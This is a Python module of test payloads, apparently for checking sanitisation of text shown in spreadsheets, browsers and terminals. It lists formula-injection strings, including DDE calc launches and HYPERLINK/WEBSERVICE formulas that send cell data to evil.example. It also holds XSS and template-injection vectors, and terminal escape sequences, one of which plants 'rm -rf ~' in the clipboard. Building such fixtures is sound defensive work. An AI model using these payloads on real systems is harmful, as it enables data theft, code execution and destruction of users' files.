"""Texts that are more than texts to whoever shows them: to spreadsheets, browsers and terminals."""

_CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?"&A1,"open")',
    "1+1",
)
_BEGINS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "\u3000=", "\uff1d", "\uff0b", "\uff0d", "\uff20")

FORMULAS = tuple(begin + call for begin in _BEGINS for call in _CALLS) + (
    'a","=1+1', "a;=1+1", "a\t=1+1", "a\r\n=1+1", 'a"\n=1+1', "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
    "@SUM(1+9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!D2",
    "|cmd' /C calc'!A0", "%0A=1+1", "\ufeff=1+1", "\u200b=1+1", "\x00=1+1".replace("\x00", "\x01"),
)  # fmt: skip

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "' onmouseover='alert(1)",
    "\" onfocus=\"alert(1)\" autofocus=\"",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><input name=a>",
    "<style>*{background:url(http://evil.example)}</style>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "\u2028<script>alert(1)</script>\u2029",
)

ESCAPES = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;cm0gLXJmIH4K\x07",
    "\x1b[6n",
    "\x1bP$q\x1b\\",
    "\x1b[?1049h",
    "\x1b[8m hidden \x1b[0m",
    "\x1b[1A\x1b[2KREAL IMAGE  0.001  forged.png",
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "\x07\x07\x07",
    "fake\b\b\b\breal",
    "fake.png\rREAL IMAGE",
    "line\nREAL IMAGE  0.001  forged.png",
    "line\x0b\x0cfeed",
    "\x85next line",
    "\u2028separator\u2029",
    "\u202egnp.exe",
    "\u2066isolate\u2069",
    "\u200bzero\u200dwidth\ufeff",
    "\U000e0041\U000e0042 tags",
    "\x7fdelete",
    "\ufff9annotation\ufffb",
    "\udcff\udcfe not UTF-8",
    "\x1b[200~paste\x1b[201~",
)

PAYLOADS = FORMULAS + MARKUP + ESCAPES
